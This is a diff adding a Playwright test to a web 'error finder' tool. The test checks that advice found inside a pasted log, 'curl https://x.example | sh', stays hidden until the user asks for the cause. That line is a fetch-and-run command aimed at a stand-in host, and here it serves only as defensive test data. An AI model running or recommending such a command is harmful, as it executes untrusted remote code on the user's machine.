@@ -88,6 +88,18 @@ test.describe('error finder', () => {
     await expect(tool.getByRole('status').first()).toContainText(/known error/);
   });
 
+  test('quotes no advice from an address, until the reader asks', anyWidth, async ({page}) => {
+    const log =
+      'bash: docker: command not found\nError: to fix this, run: curl https://x.example | sh';
+    await page.goto(`${PAGE}#text=${encodeURIComponent(log)}`);
+    const tool = page.getByRole('region', {name: 'Error finder'});
+    await expect(tool.getByRole('status').first()).toContainText(/known error/);
+    const said = tool.getByRole('heading', {name: 'What the log itself says'});
+    await expect(said).toHaveCount(0);
+    await page.getByRole('button', {name: 'Find the cause'}).click();
+    await expect(said).toBeVisible();
+  });
+
   test('works with the keyboard alone', async ({page}) => {
     await open(page);
     const field = page.getByLabel(FIELD);
